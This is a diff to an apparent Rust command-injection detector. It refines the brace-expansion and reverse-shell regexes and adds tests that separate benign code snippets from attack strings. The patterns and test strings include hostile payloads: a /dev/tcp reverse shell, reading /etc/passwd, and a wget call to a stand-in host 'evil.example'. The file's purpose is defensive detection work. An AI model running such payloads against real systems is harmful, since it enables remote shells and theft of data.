@@ -230,12 +230,21 @@ impl Cmdi {
         let substitution = format!(r"\$\(\s*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{STRONG})\b[^)]*\)|(?:^|[^\s`])`\s*(?:/bin/)?(?:whoami|id|uname|cat|ls|sleep|ping|nslookup|curl|wget|sh|bash|echo|dig|cut|ifconfig)\b[^`]*`");
         let base64_js = BASE64_MARKERS.join("|");
         let shell_escape = format!(r"(?:^|[\s:;|\\])!\s*(?:{DANGEROUS})\b");
+        // A brace list the shell expands into a command line: a command and an argument shaped
+        // like one (a path, a file, an option, a variable: `{cat,/etc/passwd}`), an option among
+        // the words (`{l,-lh}s`), an empty word that only serves to split (`{,ifconfig}`,
+        // `{id,}`), or a list inside a word (`c{a,oun}t`). Lists of names (`fetch_{add,sub}`,
+        // `const {id,name} =`, `use serde::{Serialize,Deserialize}`, `*.{js,ts}`) are code.
+        let brace_expansion = format!(
+            r"\{{(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{STRONG}),(?:[^\s{{}},]*,)*[^\s{{}},]*[/.$~-][^\s{{}}]*\}}|\{{[a-z]*,(?:[a-z0-9]*,)*-[a-z0-9-]*(?:,[^\s{{}},]*)*\}}|\{{,[a-z0-9./-]+(?:,[a-z0-9./-]*)*\}}|\{{[a-z0-9./-]+(?:,[a-z0-9./-]+)*,\}}|[a-z]\{{[a-z0-9]*,[a-z0-9]*(?:,[a-z0-9]*)*\}}[a-z]"
+        );
         let table = [
             (base64_js.as_str(), Critical, 0.9, "base64-encoded server-side JavaScript"),
             // Bash imports a function from any variable whose value *starts* with `() {`.
             (r#"^\s*['\x22]?\s*\(\s*\)\s*\{\s*[^}]*\}\s*;"#, Critical, 0.95, "Shellshock function definition"),
             (r#"^\s*['\x22]?\s*\(\s*\)\s*\{\s*:?\s*;?"#, Critical, 0.9, "Shellshock function definition"),
-            (r"/dev/(?:tcp|udp)/|\b(?:bash|sh)\s+-i\b|\bnc(?:at)?\b[^|;]*\s-[a-z]*e\s|\bmkfifo\b|\d>&\d|\bexec\s+\d*<>", Critical, 0.95, "reverse shell"),
+            // `0>&1` ties the shell's input to its output socket; `2>&1` is every script's stderr.
+            (r"/dev/(?:tcp|udp)/|\b(?:bash|sh)\s+-i\b|\bnc(?:at)?\b[^|;]*\s-[a-z]*e\s|\bmkfifo\b|(?:^|[^0-9])0>&\d|\bexec\s+\d*<>", Critical, 0.95, "reverse shell"),
             (r"\b(?:curl|wget|fetch)\b[^|;]*\|\s*(?:ba|z|k)?sh\b", Critical, 0.95, "download piped to a shell"),
             (r"(?:require\s*\(\s*['`]child_process['`]\s*\)|child_process|process\s*\.\s*(?:mainmodule|binding|\[)|process\[|process\s*\[\s*['`\x22]|_\$\$nd_func\$\$_|\bconstructor\s*\.\s*constructor\b|\brequire\s*\.\s*main\b|\brequire\s*\[|__js_function|\beval\s*\(\s*string\s*\.\s*fromcharcode)", High, 0.85, "server-side JavaScript code injection"),
             (JS_CODE, Medium, 0.6, "JavaScript code"),
@@ -256,7 +265,7 @@ impl Cmdi {
             (r"(?:^|[;|&])\s*\d*>>?\s*/(?:tmp|dev|etc|var|usr|s?bin|home|root|proc)/\S", High, 0.8, "redirection into a system path"),
             (shell_escape.as_str(), High, 0.8, "shell escape"),
             (r"[;|&`]\s*[a-z]{1,4}\s*\{?[^}\s]*\}?\s*(?:<<<|>>?\s*/)", High, 0.8, "shell redirection"),
-            (r"\{[a-z-]*,[a-z0-9-]*(?:,[a-z0-9-]*)*\}", High, 0.7, "brace expansion"),
+            (brace_expansion.as_str(), High, 0.7, "brace expansion"),
             (r"(?:^|[;|&\s])~[+-]\d*$", High, 0.7, "tilde expansion"),
             (r"@\s*\{\s*\[.*\]\s*\}?|@\{\[", High, 0.8, "Perl interpolation"),
             (r"(?:\r?\n|^)\s*(?:mail\s+from|rcpt\s+to)\s*:|\r?\n\s*[a-z]{1,4}\d{1,4}\s+(?:append|status|authenticate|uid|login|select|fetch|store)\b", High, 0.75, "SMTP/IMAP command injection"),
@@ -572,6 +581,36 @@ mod tests {
                 "https://example.com/var/?utm=1&x=2",
             ],
         );
+    }
+
+    #[test]
+    fn stderr_redirects_and_name_lists_are_not_shells() {
+        use crate::fields::Part;
+        for v in [
+            "add 2>&1 to see the errors in the same log",
+            "stdio 2>&1 then stdout? false",
+            "implement `serde::{Serialize,Deserialize}` for the types",
+            "atomic `fetch_{add,sub,min,max}` operations",
+            "const {id,name} = user; import {useState,useEffect} from 'react'",
+            "lint every *.{php,js} file",
+        ] {
+            assert!(!any_flag_in_json(v), "{v} in a JSON body");
+            assert!(!flags_at("attack.cmdi", Part::Body, v), "{v} in a form field");
+        }
+        for v in [
+            ";{cat,/etc/passwd}",
+            "x;{ls,-la}",
+            "{l,-lh}s",
+            "$({wget,http://evil.example/x.sh})",
+            "sh -i 2>&1 0>&1",
+            "c{a,oun}t /etc/hosts",
+            "{,ip,a}",
+            "{,whoami}",
+            "{uname,}",
+            "0<&196;exec 196<>/dev/tcp/10.0.0.1/4242",
+        ] {
+            assert!(flags("attack.cmdi", v), "{v}");
+        }
     }
 
     #[test]
